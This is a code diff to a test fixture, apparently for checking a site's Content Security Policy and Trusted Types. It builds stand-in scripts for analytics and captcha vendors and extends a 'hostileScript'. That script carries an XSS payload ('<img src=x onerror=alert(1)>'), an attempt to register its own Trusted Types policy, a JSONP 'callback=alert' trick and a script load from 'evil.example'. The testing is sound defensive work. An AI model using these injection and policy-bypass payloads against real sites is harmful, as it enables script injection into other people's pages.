@@ -22,17 +22,44 @@ const commandsOfGoogle = `
   window.dataLayer.push = function (entry) { read(entry); return push.call(window.dataLayer, entry); };
   before.forEach(read);`;
 
+/** Says that a script ran which the vendor's first one has brought. */
+const ran = (vendor: string) => (origin: string) => `fetch('${origin}/ran/${vendor}', { method: 'POST' });`;
+
+/** Brings a further script as most do: by a plain string. */
+const addByString = (url: string) => `
+  var next = document.createElement('script');
+  next.src = '${url}';
+  document.head.append(next);`;
+
+/** Brings a further script and some HTML as the scripts of Google do: by a policy of their own. */
+const addByPolicy = (policy: string, url: string) => `
+  var same = function (text) { return text; };
+  var rules = { createHTML: same, createScript: same, createScriptURL: same };
+  var types = window.trustedTypes ? window.trustedTypes.createPolicy('${policy}', rules) : rules;
+  var next = document.createElement('script');
+  next.src = types.createScriptURL('${url}');
+  document.head.append(next);
+  document.createElement('div').innerHTML = types.createHTML('A<div></div>');`;
+
+type MakeScript = (origin: string) => string;
+
 /** Stand-ins for the vendors' scripts: each takes over the queue that the real one takes over. */
-export const vendorScripts: Readonly<Record<string, (origin: string) => string>> = {
-  '/gtm.js': (origin) => `(function () {${prelude('tagManager', origin)}${commandsOfGoogle}})();`,
-  '/gtag/js': (origin) => `(function () {${prelude('googleAds', origin)}${commandsOfGoogle}})();`,
+const firstScripts: Readonly<Record<string, MakeScript>> = {
+  '/gtm.js': (origin) => `(function () {${prelude('tagManager', origin)}${commandsOfGoogle}
+    ${addByPolicy('goog#html', `${origin}/gtag/destination?id=G-TEST`)}
+  })();`,
+  '/gtag/js': (origin) => `(function () {${prelude('googleAds', origin)}${commandsOfGoogle}
+    ${addByPolicy('goog#html', `${origin}/pagead/conversion/1234567890/?fmt=3`)}
+  })();`,
   '/fbevents.js': (origin) => `(function () {${prelude('metaPixel', origin)}
     window.fbq.callMethod = function () { told(Array.from(arguments)); };
     window.fbq.queue.splice(0).forEach(told);
+    ${addByString(`${origin}/signals/config/123456789012345?v=2`)}
   })();`,
   '/tiktok.js': (origin) => `(function () {${prelude('tikTokPixel', origin)}
     window.ttq.splice(0).forEach(told);
     window.ttq.push = told;
+    ${addByString(`${origin}/i18n/pixel/static/main.js`)}
   })();`,
   // What the recorder does not mask it sees: all text and all values of the page, at every event.
   '/logger.min.js': (origin) => `(function () {${prelude('logRocket', origin)}
@@ -50,20 +77,44 @@ export const vendorScripts: Readonly<Record<string, (origin: string) => string>>
         };
       } });
     };
+    var worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
+    worker.onmessage = function () { ${ran('logRocket')(origin)} };
   })();`,
-  '/recaptcha.js': () => `window.grecaptcha = {
-    ready: function (then) { then(); },
-    execute: function () { return Promise.resolve('token-of-the-captcha'); },
-  };`,
+  '/recaptcha.js': (origin) => `(function () {
+    var waiting = window.waitingForCaptcha = [];
+    window.grecaptcha = { ready: function (then) { waiting.push(then); } };
+    ${addByPolicy('unnamed#captcha', `${origin}/recaptcha/releases/1/recaptcha__en.js`)}
+  })();`,
 };
 
-/** A script that does the worst it can. */
+/** What the first ones bring by themselves, at the paths of the real ones. */
+const furtherScripts: Readonly<Record<string, MakeScript>> = {
+  '/gtag/destination': ran('tagManager'),
+  '/pagead/conversion/1234567890/': ran('googleAds'),
+  '/signals/config/123456789012345': ran('metaPixel'),
+  '/i18n/pixel/static/main.js': ran('tikTokPixel'),
+  '/recaptcha/releases/1/recaptcha__en.js': (origin) => `${ran('captcha')(origin)}
+    window.grecaptcha = {
+      ready: function (then) { then(); },
+      execute: function () { return Promise.resolve('token-of-the-captcha'); },
+    };
+    window.waitingForCaptcha.forEach(function (then) { then(); });`,
+};
+
+export const vendorScripts: Readonly<Record<string, MakeScript>> = { ...firstScripts, ...furtherScripts };
+
+/** A script that does the worst it can, also with what its own host would answer to a stranger's address. */
 export const hostileScript = `
   ['fbq', 'ttq', 'grecaptcha'].forEach(function (name) {
     Object.defineProperty(window, name, { get: function () { throw new Error('hostile'); } });
   });
   try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'); } catch (refused) {}
   try { eval('1'); } catch (refused) {}
-  var script = document.createElement('script');
-  try { script.src = 'https://evil.example/a.js'; document.head.append(script); } catch (refused) {}
+  var own = { createScriptURL: function (url) { return url; } };
+  try { own = window.trustedTypes.createPolicy('hostile', own); } catch (refused) {}
+  var jsonp = new URL('/jsonp?callback=alert', document.currentScript.src).href;
+  ['https://evil.example/a.js', jsonp, own.createScriptURL(jsonp)].forEach(function (url) {
+    var script = document.createElement('script');
+    try { script.src = url; document.head.append(script); } catch (refused) {}
+  });
   throw new Error('hostile');`;
